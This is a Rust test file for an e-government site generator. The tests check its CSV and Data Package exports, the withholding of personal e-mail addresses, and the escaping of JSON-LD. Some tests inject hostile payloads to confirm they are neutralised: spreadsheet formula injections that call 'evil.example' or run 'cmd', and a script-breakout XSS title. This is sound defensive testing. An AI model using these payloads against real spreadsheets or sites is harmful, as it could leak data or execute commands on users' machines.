//! Open data downloads and structured data, checked on the real bundled site: the CSV table
//! parses and matches its Data Package schema, the descriptor names every data file,
//! personal data stays out unless published, and JSON-LD is valid JSON that cannot break
//! out of its script element.

mod common;

use std::collections::{BTreeMap, BTreeSet, HashSet};
use std::fs;
use std::path::Path;
use std::sync::OnceLock;

use common::*;
use egovsite::build::{render, Rendered};
use egovsite::output::OutFile;
use egovsite::render::{data, jsonld};
use serde_json::Value;

struct Data {
    rendered: Rendered,
    files: Vec<OutFile>,
}

fn render_at(root: &Path) -> Rendered {
    render(root, None).unwrap_or_else(|d| {
        panic!(
            "{}",
            d.iter()
                .map(|d| d.to_string())
                .collect::<Vec<_>>()
                .join("\n")
        )
    })
}

fn bundled() -> &'static Data {
    static DATA: OnceLock<Data> = OnceLock::new();
    DATA.get_or_init(|| {
        let rendered = render_at(&repo());
        let files = data::files(&rendered.site);
        Data { rendered, files }
    })
}

fn text<'a>(files: &'a [OutFile], path: &str) -> &'a str {
    let f = files
        .iter()
        .find(|f| f.path == path)
        .unwrap_or_else(|| panic!("{path} not produced"));
    std::str::from_utf8(&f.bytes).unwrap_or_else(|e| panic!("{path}: not UTF-8: {e}"))
}

fn json(files: &[OutFile], path: &str) -> Value {
    serde_json::from_str(text(files, path)).unwrap_or_else(|e| panic!("{path}: {e}"))
}

/// The CSV as header and rows, each row a map from column name to value.
fn table(files: &[OutFile]) -> (Vec<String>, Vec<BTreeMap<String, String>>) {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(text(files, data::CSV_PATH).as_bytes());
    let header: Vec<String> = r.headers().unwrap().iter().map(str::to_string).collect();
    let rows = r
        .records()
        .map(|rec| {
            let rec = rec.unwrap();
            assert_eq!(rec.len(), header.len());
            header
                .iter()
                .cloned()
                .zip(rec.iter().map(str::to_string))
                .collect()
        })
        .collect();
    (header, rows)
}

fn schema_fields(package: &Value) -> Vec<(String, String)> {
    let csv = package["resources"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["path"] == "answers.csv")
        .expect("the CSV is a resource");
    csv["schema"]["fields"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["name"].as_str().unwrap().to_string(),
                f["type"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

fn row<'a>(
    rows: &'a [BTreeMap<String, String>],
    country: &str,
    qid: &str,
) -> &'a BTreeMap<String, String> {
    rows.iter()
        .find(|r| r["country"] == country && r["question_id"] == qid)
        .unwrap_or_else(|| panic!("no row for {country} {qid}"))
}

#[test]
fn csv_header_is_the_schema() {
    let d = bundled();
    let (header, rows) = table(&d.files);
    let package = json(&d.files, data::PACKAGE_PATH);
    let names: Vec<String> = schema_fields(&package)
        .into_iter()
        .map(|(n, _)| n)
        .collect();
    assert_eq!(header, names);
    let text = text(&d.files, data::CSV_PATH);
    assert!(!text.starts_with('\u{feff}'), "no byte-order mark");
    assert!(!text.contains('\r'), "one line ending throughout: \\n");
    assert!(text.ends_with('\n'));
    assert!(!rows.is_empty());
}

#[test]
fn one_row_per_country_and_question_of_each_edition_answered() {
    let d = bundled();
    let site = &d.rendered.site;
    let (_, rows) = table(&d.files);
    let published = |edition: &str| {
        let ed = site.editions.iter().find(|e| e.id == edition).unwrap();
        ed.cat
            .questions
            .iter()
            .filter(|q| !q.kind.is_personal())
            .map(|q| q.id.clone())
            .collect::<Vec<_>>()
    };
    assert!(!site.config.publish_contacts);
    let count = |country: &str, edition: &str| {
        rows.iter()
            .filter(|r| r["country"] == country && r["edition"] == edition)
            .count()
    };
    let ed_len = |id: &str| {
        site.editions
            .iter()
            .find(|e| e.id == id)
            .unwrap()
            .cat
            .questions
            .len()
    };
    assert_eq!(ed_len("msq-2022"), 126);
    assert_eq!(ed_len("msq-2021"), 112);
    assert_eq!(count("lao-pdr", "msq-2022"), published("msq-2022").len());
    assert_eq!(count("cambodia", "msq-2021"), published("msq-2021").len());
    assert!(published("msq-2022").len() < 126 && published("msq-2021").len() < 112);

    // Every response, in order: countries as the site lists them, editions newest first,
    // questions in catalogue order.
    let mut expected = Vec::new();
    for c in &site.countries {
        for r in &c.responses {
            for qid in published(&r.edition) {
                expected.push((c.slug.clone(), r.edition.clone(), qid));
            }
        }
    }
    let got: Vec<(String, String, String)> = rows
        .iter()
        .map(|r| {
            (
                r["country"].clone(),
                r["edition"].clone(),
                r["question_id"].clone(),
            )
        })
        .collect();
    assert_eq!(got, expected);
    assert!(rows
        .iter()
        .all(|r| r["kind"] != "email" && r["kind"] != "person_name"));
}

#[test]
fn known_answers() {
    let (_, rows) = table(&bundled().files);
    let q57 = row(&rows, "cambodia", "q57");
    assert_eq!(q57["other"], "15 Years");
    assert_eq!(q57["kind"], "single_choice");
    assert_eq!(q57["answered"], "true");
    assert_eq!(q57["country_name"], "Cambodia");
    assert_eq!(q57["iso3"], "KHM");
    assert_eq!(q57["edition"], "msq-2021");

    let q119 = row(&rows, "lao-pdr", "q119");
    assert_eq!(q119["choice"], "no");
    assert_eq!(q119["inferred"], "false");
    assert_eq!(q119["inferred_reason"], "");
    assert_eq!(q119["answered"], "true");
    assert_eq!(q119["question_number"], "119");
    assert_eq!(q119["topic"], "usage-by-gender");

    // Choices the export does not record read "unknown"; text kinds have no choice.
    assert!(rows.iter().any(|r| r["choice"] == "unknown"));
    for r in &rows {
        if !matches!(
            r["kind"].as_str(),
            "yes_no" | "single_choice" | "multiple_choice"
        ) {
            assert_eq!(r["choice"], "", "{r:?}");
        }
        if r["inferred"] == "true" {
            assert!(!r["inferred_reason"].is_empty(), "{r:?}");
        }
        if r["answered"] == "false" {
            assert!(
                r["choice"].is_empty() && r["detail"].is_empty() && r["other"].is_empty(),
                "{r:?}"
            );
        }
    }
}

#[test]
fn values_parse_as_their_declared_types_and_the_key_is_unique() {
    let d = bundled();
    let (_, rows) = table(&d.files);
    let package = json(&d.files, data::PACKAGE_PATH);
    let fields = schema_fields(&package);
    for r in &rows {
        for (name, kind) in &fields {
            let v = &r[name];
            match kind.as_str() {
                "integer" => assert!(v.parse::<i64>().is_ok(), "{name}={v:?}"),
                "boolean" => assert!(v == "true" || v == "false", "{name}={v:?}"),
                "string" => {}
                other => panic!("unexpected type {other} for {name}"),
            }
        }
    }
    let csv = &package["resources"][0];
    let key: Vec<&str> = csv["schema"]["primaryKey"]
        .as_array()
        .unwrap()
        .iter()
        .map(|k| k.as_str().unwrap())
        .collect();
    assert_eq!(key, ["country", "edition", "question_id"]);
    let mut seen = HashSet::new();
    for r in &rows {
        let k: Vec<&str> = key.iter().map(|k| r[*k].as_str()).collect();
        assert!(k.iter().all(|v| !v.is_empty()), "{r:?}");
        assert!(seen.insert(k.join("\u{0}")), "duplicate key {k:?}");
    }
}

#[test]
fn datapackage_names_every_data_file() {
    let d = bundled();
    let site = &d.rendered.site;
    let package = json(&d.files, data::PACKAGE_PATH);
    let produced: BTreeSet<&str> = d
        .files
        .iter()
        .map(|f| f.path.as_str())
        .filter(|p| *p != data::PACKAGE_PATH)
        .collect();
    let named: BTreeSet<String> = package["resources"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            let p = r["path"].as_str().unwrap();
            assert!(!p.starts_with('/') && !p.contains(".."), "{p}");
            assert!(r["name"]
                .as_str()
                .unwrap()
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b"-._".contains(&b)));
            format!("data/{p}")
        })
        .collect();
    assert_eq!(
        named.iter().map(String::as_str).collect::<BTreeSet<_>>(),
        produced
    );
    assert!(d.files.iter().all(|f| f.path.starts_with("data/")));
    assert_eq!(
        produced.len(),
        2 + site.countries.len(),
        "answers.csv, indicators.csv, one JSON per country"
    );

    assert_eq!(package["homepage"], site.base_url.as_str());
    assert_eq!(package["title"], site.config.title.as_str());
    assert_eq!(
        package["licenses"][0]["title"],
        site.config.licence.as_str()
    );
    assert_eq!(package["sources"][0]["title"], site.config.source.as_str());
    let name = package["name"].as_str().unwrap();
    assert!(
        !name.is_empty()
            && name
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
    );
    let unique: HashSet<&str> = package["resources"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["name"].as_str().unwrap())
        .collect();
    assert_eq!(unique.len(), package["resources"].as_array().unwrap().len());
    for r in package["resources"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["name"].as_str().unwrap().starts_with("country-"))
    {
        assert_eq!(r["format"], "json");
        assert_eq!(r["mediatype"], "application/json");
    }
}

#[test]
fn country_files_hold_facts_and_answers() {
    let d = bundled();
    let site = &d.rendered.site;
    let (_, rows) = table(&d.files);
    for c in &site.countries {
        let v = json(&d.files, &data::country_path(c));
        assert_eq!(v["slug"], c.slug.as_str());
        assert_eq!(v["name"], c.info.name.as_str());
        assert_eq!(v["iso3"], c.info.iso3.as_str());
        assert_eq!(v["official_name"], c.info.official_name.as_str());
        assert_eq!(
            v["indicators"].as_array().unwrap().len(),
            c.info.indicators.len()
        );
        let responses = v["responses"].as_array().unwrap();
        assert_eq!(responses.len(), c.responses.len());
        for (r, model) in responses.iter().zip(&c.responses) {
            assert_eq!(r["edition"], model.edition.as_str());
            assert!(r.get("contacts").is_none(), "contacts are not published");
            assert!(r["provenance"]["document"].is_string());
            let ids: Vec<&str> = r["answers"]
                .as_array()
                .unwrap()
                .iter()
                .map(|a| a["question_id"].as_str().unwrap())
                .collect();
            let csv_ids: Vec<&str> = rows
                .iter()
                .filter(|x| x["country"] == c.slug && x["edition"] == model.edition)
                .map(|x| x["question_id"].as_str())
                .collect();
            assert_eq!(ids, csv_ids);
        }
    }
    let lao = json(&d.files, "data/countries/lao-pdr.json");
    assert_eq!(lao["indicators"][0]["name"], "EGDI");
    assert!(lao["indicators"][0]["source"]
        .as_str()
        .unwrap()
        .contains("UN DESA"));
    let q119 = lao["responses"][0]["answers"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["question_id"] == "q119")
        .unwrap();
    assert_eq!(q119["choice"], "no");
    assert_eq!(q119["answered"], true);
}

#[test]
fn data_files_are_deterministic() {
    let again = render_at(&repo());
    let a = &bundled().files;
    let b = data::files(&again.site);
    assert_eq!(a.len(), b.len());
    for (x, y) in a.iter().zip(&b) {
        assert_eq!(x.path, y.path);
        assert!(x.bytes == y.bytes, "{} differs between builds", x.path);
    }
}

/// Every string shaped like an e-mail address in `text`.
fn emails(text: &str) -> Vec<String> {
    let b = text.as_bytes();
    let local = |c: u8| c.is_ascii_alphanumeric() || b"._%+-".contains(&c);
    let domain = |c: u8| c.is_ascii_alphanumeric() || b".-".contains(&c);
    let mut out = Vec::new();
    for (i, _) in text.match_indices('@') {
        let mut s = i;
        while s > 0 && local(b[s - 1]) {
            s -= 1;
        }
        let mut e = i + 1;
        while e < b.len() && domain(b[e]) {
            e += 1;
        }
        let dom = text[i + 1..e].trim_end_matches(['.', '-']);
        let tld = dom.rsplit('.').next().unwrap_or("");
        if s < i
            && dom.contains('.')
            && tld.len() >= 2
            && tld.bytes().all(|c| c.is_ascii_alphabetic())
        {
            out.push(format!("{}@{}", &text[s..i], dom).to_lowercase());
        }
    }
    out
}

fn content_emails(root: &Path) -> BTreeSet<String> {
    let mut found = BTreeSet::new();
    for e in walkdir::WalkDir::new(root.join("content/countries")) {
        let e = e.unwrap();
        if e.file_type().is_file() {
            found.extend(emails(&fs::read_to_string(e.path()).unwrap()));
        }
    }
    found
}

#[test]
fn email_scanner_finds_addresses() {
    assert_eq!(
        emails("write to a.b-c@mptc.gov.kh. Thanks"),
        ["a.b-c@mptc.gov.kh"]
    );
    assert!(emails("@handle and a@b and x@localhost").is_empty());
}

#[test]
fn no_email_address_from_content_in_any_data_file() {
    // The committed content has none: a copy with the private contacts files staff keep.
    let dir = site_copy();
    add_test_contacts(dir.path());
    let rendered = render_at(dir.path());
    let files = data::files(&rendered.site);
    let found = content_emails(dir.path());
    assert!(
        found.len() >= 4,
        "the private contacts files carry respondents' addresses"
    );
    for f in &files {
        let text = String::from_utf8_lossy(&f.bytes).to_lowercase();
        for addr in &found {
            assert!(!text.contains(addr.as_str()), "{} publishes {addr}", f.path);
        }
        assert!(
            emails(&text).is_empty(),
            "{} holds an e-mail address",
            f.path
        );
    }
}

#[test]
fn contacts_appear_only_when_published() {
    let dir = site_copy();
    let yaml = dir.path().join("content/site.yaml");
    let cfg = fs::read_to_string(&yaml).unwrap();
    assert!(cfg.contains("publish_contacts: false"));
    fs::write(
        &yaml,
        cfg.replace("publish_contacts: false", "publish_contacts: true"),
    )
    .unwrap();
    add_test_contacts(dir.path());
    let rendered = render_at(dir.path());
    let files = data::files(&rendered.site);
    let (_, rows) = table(&files);
    let site = &rendered.site;
    for c in &site.countries {
        for r in &c.responses {
            let ed = site.editions.iter().find(|e| e.id == r.edition).unwrap();
            let n = rows
                .iter()
                .filter(|x| x["country"] == c.slug && x["edition"] == r.edition)
                .count();
            assert_eq!(n, ed.cat.questions.len());
        }
    }
    // Published, but never in harvestable form: written `name [at] domain` as on the pages,
    // in the CSV and in the country files alike.
    let found = content_emails(dir.path());
    assert!(!found.is_empty());
    for f in &files {
        let text = String::from_utf8_lossy(&f.bytes).to_lowercase();
        assert!(
            emails(&text).is_empty(),
            "{} holds an e-mail address: {:?}",
            f.path,
            emails(&text)
        );
    }
    let csv = text(&files, data::CSV_PATH).to_lowercase();
    for addr in &found {
        let shown = addr.replace('@', " [at] ");
        assert!(csv.contains(&shown), "published contact {shown} in the CSV");
    }
    let q5 = row(&rows, "cambodia", "q5");
    assert_eq!(q5["kind"], "email");
    assert_eq!(q5["detail"], "tester-khm [at] example.gov.kh");
    assert_eq!(q5["answered"], "true");
    let cambodia = json(&files, "data/countries/cambodia.json");
    let response = &cambodia["responses"][0];
    assert_eq!(response["edition"], "msq-2021");
    assert_eq!(response["contacts"]["q2"], "Mr. Tester Khmerline");
    assert_eq!(response["contacts"]["q5"], "tester-khm [at] example.gov.kh");
    let answer = response["answers"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["question_id"] == "q5")
        .unwrap();
    assert_eq!(answer["detail"], "tester-khm [at] example.gov.kh");
    let lao = json(&files, "data/countries/lao-pdr.json");
    assert!(lao["responses"][0]["contacts"].is_object());
}

#[test]
fn no_built_file_holds_a_plain_address_when_contacts_are_published() {
    let dir = site_copy();
    add_test_contacts(dir.path());
    let yaml = dir.path().join("content/site.yaml");
    let cfg = fs::read_to_string(&yaml).unwrap();
    fs::write(
        &yaml,
        cfg.replace("publish_contacts: false", "publish_contacts: true"),
    )
    .unwrap();
    let out = tempfile::tempdir().unwrap();
    let target = out.path().join("site");
    let built = egovsite(
        &[
            "build",
            "--root",
            dir.path().to_str().unwrap(),
            "--output",
            target.to_str().unwrap(),
        ],
        dir.path(),
    );
    assert!(
        built.status.success(),
        "{}",
        String::from_utf8_lossy(&built.stderr)
    );
    let files = output_files(&target);
    assert!(files.iter().any(|f| f.path == data::CSV_PATH));
    assert!(files
        .iter()
        .any(|f| f.path == "data/countries/cambodia.json"));
    for f in &files {
        let text = String::from_utf8_lossy(&f.bytes).to_lowercase();
        assert!(
            emails(&text).is_empty(),
            "{} holds {:?}",
            f.path,
            emails(&text)
        );
    }
    let page = read(&target, "countries/cambodia.html");
    assert!(page.contains("tester-khm [at] example.gov.kh"));
}

/// Whether a spreadsheet could take a CSV cell for a formula (OWASP's first characters).
fn formula_like(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[test]
fn csv_cells_of_the_bundled_site_cannot_run_as_formulas() {
    let d = bundled();
    let (_, rows) = table(&d.files);
    for r in &rows {
        for (name, v) in r {
            assert!(!formula_like(v), "{name} = {v:?} in {r:?}");
        }
    }
    // Cambodia's list of services starts with `-www...`: shown as text, still readable.
    let q8 = row(&rows, "cambodia", "q8");
    assert!(
        q8["detail"].starts_with("'-www.mpwt.gov.kh/en/home (Vehicle registration service"),
        "{}",
        q8["detail"]
    );
    // The JSON file keeps the value as written.
    let cambodia = json(&d.files, "data/countries/cambodia.json");
    let detail = cambodia["responses"][0]["answers"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["question_id"] == "q8")
        .unwrap()["detail"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(detail.starts_with("-www.mpwt.gov.kh"), "{detail}");
    assert_eq!(q8["detail"], format!("'{detail}"));
    // The descriptor says how the cells were changed.
    let package = json(&d.files, data::PACKAGE_PATH);
    let description = package["resources"][0]["description"].as_str().unwrap();
    assert!(
        description.contains("a single quote (')") && description.contains("=, +, -, @"),
        "{description}"
    );
}

#[test]
fn crafted_formulas_are_neutralised_in_the_csv() {
    let dir = site_copy();
    let path = dir.path().join("content/countries/cambodia/msq-2021.yaml");
    let yaml = fs::read_to_string(&path).unwrap();
    let payloads = [
        (
            "q3",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Director\")",
        ),
        ("q4", "+cmd|' /C calc'!A0"),
        ("q6", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ];
    let yaml = yaml
        .replacen(
            "  q3:\n    text: |-\n      Director\n",
            "  q3:\n    text: '=HYPERLINK(\"http://evil.example/?\"&A1,\"Director\")'\n",
            1,
        )
        .replacen(
            "      Department of e-Government, General Department of ICT, Ministry of Posts and Telecommunications\n    reviewed: true\n  q6:",
            "      +cmd|' /C calc'!A0\n    reviewed: true\n  q6:",
            1,
        )
        .replacen(
            "other: The answer above is by General Department of I",
            "other: \"@SUM(1+1)*cmd|' /C calc'!A0\"",
            1,
        )
        .replacen(
            "  document: Export of the online form's \"View results\" page",
            "  document: \"\\t=1+1\"",
            1,
        )
        .replacen(
            "  file: cambodia-msq-export.txt",
            "  file: \"\\r-2+3\"",
            1,
        );
    fs::write(&path, &yaml).unwrap();
    let rendered = render_at(dir.path());
    let files = data::files(&rendered.site);
    let (_, rows) = table(&files);
    for r in &rows {
        for (name, v) in r {
            assert!(!formula_like(v), "{name} = {v:?}");
        }
    }
    for (qid, payload) in payloads {
        let r = row(&rows, "cambodia", qid);
        let column = if qid == "q6" { "other" } else { "detail" };
        assert_eq!(r[column], format!("'{payload}"), "{qid}");
    }
    let q3 = row(&rows, "cambodia", "q3");
    assert_eq!(q3["source_document"], "'\t=1+1");
    // A carriage return becomes a line feed like every line break in the file, and the cell
    // still starts with the quote.
    assert_eq!(q3["source_file"], "'\n-2+3");
    // Cells that merely contain such characters are left alone.
    assert_eq!(row(&rows, "cambodia", "q57")["other"], "15 Years");
    let cambodia = json(&files, "data/countries/cambodia.json");
    assert_eq!(
        cambodia["responses"][0]["provenance"]["document"], "\t=1+1",
        "the JSON files keep values as written"
    );
}

fn check_jsonld(site: &egovsite::model::Site, text: &str, kind: &str) -> Value {
    for bad in ['<', '>', '&', '\u{2028}', '\u{2029}'] {
        assert!(!text.contains(bad), "{bad:?} in {text}");
    }
    let v: Value = serde_json::from_str(text).unwrap_or_else(|e| panic!("{e}: {text}"));
    assert_eq!(v["@context"], "https://schema.org");
    assert_eq!(v["@type"], kind);
    assert!(v["url"].as_str().unwrap().starts_with(&site.base_url));
    v
}

#[test]
fn jsonld_parses() {
    let site = &bundled().rendered.site;
    let v = check_jsonld(site, &jsonld::dataset(site), "Dataset");
    let urls: Vec<&str> = v["distribution"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["contentUrl"].as_str().unwrap())
        .collect();
    assert_eq!(
        urls,
        [
            format!("{}data/answers.csv", site.base_url),
            format!("{}data/datapackage.json", site.base_url)
        ]
    );
    assert_eq!(v["creator"]["name"], site.config.title.as_str());
    for c in &site.countries {
        let v = check_jsonld(site, &jsonld::country(site, c), "Dataset");
        assert_eq!(
            v["distribution"][0]["contentUrl"],
            format!("{}data/countries/{}.json", site.base_url, c.slug)
        );
        assert!(v["name"].as_str().unwrap().contains(&c.info.name));
    }
    assert!(!site.documents.is_empty());
    for d in &site.documents {
        let kind = match d.kind {
            egovsite::content::DocKind::Report => "Report",
            egovsite::content::DocKind::News => "NewsArticle",
        };
        let v = check_jsonld(site, &jsonld::document(site, d), kind);
        assert_eq!(v["headline"], d.meta.title.as_str());
        assert_eq!(v["datePublished"], d.date.iso());
        assert_eq!(v["inLanguage"], d.meta.language.as_str());
        assert_eq!(v["publisher"]["name"], d.meta.source.publisher.as_str());
        assert_eq!(v["isBasedOn"].as_str(), d.meta.source.url.as_deref());
        let about: Vec<&str> = v["about"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| a["name"].as_str().unwrap())
            .collect();
        assert_eq!(about.len(), d.meta.countries.len());
    }
}

#[test]
fn a_hostile_site_title_cannot_break_out_of_the_script_element() {
    const EVIL: &str = "Profiles </script><script>alert(1)</script> & <!--";
    let dir = site_copy();
    let yaml = dir.path().join("content/site.yaml");
    let cfg = fs::read_to_string(&yaml).unwrap();
    let line = cfg.lines().find(|l| l.starts_with("title:")).unwrap();
    fs::write(
        &yaml,
        cfg.replace(
            line,
            &format!("title: {}", serde_json::to_string(EVIL).unwrap()),
        ),
    )
    .unwrap();
    let rendered = render_at(dir.path());
    let site = &rendered.site;
    assert_eq!(site.config.title, EVIL);
    let mut all = vec![jsonld::dataset(site)];
    all.extend(site.countries.iter().map(|c| jsonld::country(site, c)));
    all.extend(site.documents.iter().map(|d| jsonld::document(site, d)));
    for text in &all {
        let script = jsonld::script(text);
        assert_eq!(
            script.to_lowercase().matches("</script").count(),
            1,
            "{script}"
        );
        assert!(!script.contains("<!--"));
        let v: Value = serde_json::from_str(text).unwrap();
        let publisher = if v["@type"] == "Dataset" {
            &v["publisher"]
        } else {
            &v["sdPublisher"]
        };
        assert_eq!(publisher["name"], EVIL, "the original title reads back");
    }
    let package = json(&data::files(site), data::PACKAGE_PATH);
    assert_eq!(package["title"], EVIL);
}

#[test]
fn indicator_cells_that_look_like_formulas_are_neutralised_too() {
    let dir = site_copy();
    let path = dir.path().join("content/countries/lao-pdr/country.yaml");
    let yaml = fs::read_to_string(&path).unwrap();
    let from = "    source: \"UN DESA, Implementing One-Door-Service Centers in Lao PDR, outcome report (November 2021), section 6.1, citing the UN E-Government Survey 2020\"";
    assert!(yaml.contains(from));
    fs::write(
        &path,
        yaml.replacen(
            from,
            "    source: \"=HYPERLINK(\\\"http://evil.example\\\")\"",
            1,
        ),
    )
    .unwrap();
    let rendered = render_at(dir.path());
    let files = data::files(&rendered.site);
    let csv = text(&files, "data/indicators.csv");
    assert!(
        csv.contains("'=HYPERLINK(\"\"http://evil.example\"\")"),
        "{csv}"
    );
    assert!(!csv.contains(",=HYPERLINK"), "{csv}");
}
